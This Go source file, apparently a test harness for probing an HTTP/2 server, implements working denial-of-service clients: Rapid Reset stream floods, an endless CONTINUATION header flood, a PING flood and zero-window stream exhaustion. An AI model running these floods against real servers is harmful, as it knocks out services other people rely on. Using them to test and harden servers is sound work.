package hostile

import (
	"context"
	"encoding/binary"
	"io"
	"net"
)

// Frames of HTTP/2, RFC 9113, as far as they are needed to do harm.
const (
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameContinuation = 9

	flagEndStream  = 1
	flagEndHeaders = 4

	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := make([]byte, 9, 9+len(payload))
	b[0], b[1], b[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	b[3], b[4] = kind, flags
	binary.BigEndian.PutUint32(b[5:], stream)
	return append(b, payload...)
}

// getBlock is a header block: GET, http, a path, localhost.
func getBlock(path string) []byte {
	b := []byte{0x82, 0x86, 0x04, byte(len(path))} // :method GET and :scheme http of the static table, :path
	b = append(b, path...)
	return append(append(b, 0x01, 9), "localhost"...) // :authority
}

// speak begins HTTP/2 on a connection, with these settings, and reads what comes so that nobody waits for us.
func speak(c net.Conn, settings []byte) error {
	if _, err := io.WriteString(c, preface); err != nil {
		return err
	}
	if _, err := c.Write(frame(frameSettings, 0, 0, settings)); err != nil {
		return err
	}
	_, err := c.Write(frame(frameSettings, 1, 0, nil)) // theirs is taken as read
	return err
}

// rapidReset opens streams and resets each at once, on connections that are opened anew when the server has had enough.
func rapidReset(n int) func(context.Context, string, func()) error {
	return h2(func(ctx context.Context, c net.Conn) {
		for id := uint32(1); id < uint32(2*n) && ctx.Err() == nil; id += 2 {
			b := frame(frameHeaders, flagEndStream|flagEndHeaders, id, getBlock("/api/events"))
			if _, err := c.Write(append(b, frame(frameReset, 0, id, []byte{0, 0, 0, 8})...)); err != nil {
				return
			}
		}
	}, nil)
}

// continuations sends a header block that never ends.
func continuations(ctx context.Context, addr string, ready func()) error {
	return h2(func(ctx context.Context, c net.Conn) {
		if _, err := c.Write(frame(frameHeaders, flagEndStream, 1, getBlock("/"))); err != nil {
			return
		}
		field := []byte{0x00, 0x03, 'x', '-', 'a', 0x7f, 0x81, 0x07} // a literal of 1,024 bytes
		field = append(field, make([]byte, 1024)...)
		for i := range field[8:] {
			field[8+i] = 'y'
		}
		for range 100_000 {
			if ctx.Err() != nil {
				return
			}
			if _, err := c.Write(frame(frameContinuation, 0, 1, field)); err != nil {
				return
			}
		}
	}, nil)(ctx, addr, ready)
}

// pings keeps the server answering.
func pings(n int) func(context.Context, string, func()) error {
	return h2(func(ctx context.Context, c net.Conn) {
		for range n {
			if _, err := c.Write(frame(framePing, 0, 0, make([]byte, 8))); err != nil || ctx.Err() != nil {
				return
			}
		}
	}, nil)
}

// h2 runs f on a few connections of HTTP/2, one after the other, what comes being read and thrown away.
func h2(f func(ctx context.Context, c net.Conn), settings []byte) func(context.Context, string, func()) error {
	return repeat(2, 3, func(ctx context.Context, c net.Conn) {
		read := make(chan struct{})
		go func() {
			defer close(read)
			_, _ = io.Copy(io.Discard, c)
		}()
		if speak(c, settings) == nil {
			f(ctx, c)
		}
		c.Close()
		<-read
	})
}

// closedWindows asks for pages on many streams of each connection and lets nothing of them come.
func closedWindows(n int) func(context.Context, string, func()) error {
	return func(ctx context.Context, addr string, ready func()) error {
		return crowd(ctx, addr, n, ready, func(ctx context.Context, c net.Conn, ready func()) {
			none := []byte{0, 4, 0, 0, 0, 0} // SETTINGS_INITIAL_WINDOW_SIZE 0
			if speak(c, none) == nil {
				for id := uint32(1); id < 400; id += 2 {
					if _, err := c.Write(frame(frameHeaders, flagEndStream|flagEndHeaders, id, getBlock("/telltale.css"))); err != nil {
						break
					}
				}
			}
			ready()
			_, _ = io.Copy(io.Discard, c)
			<-ctx.Done()
		})
	}
}
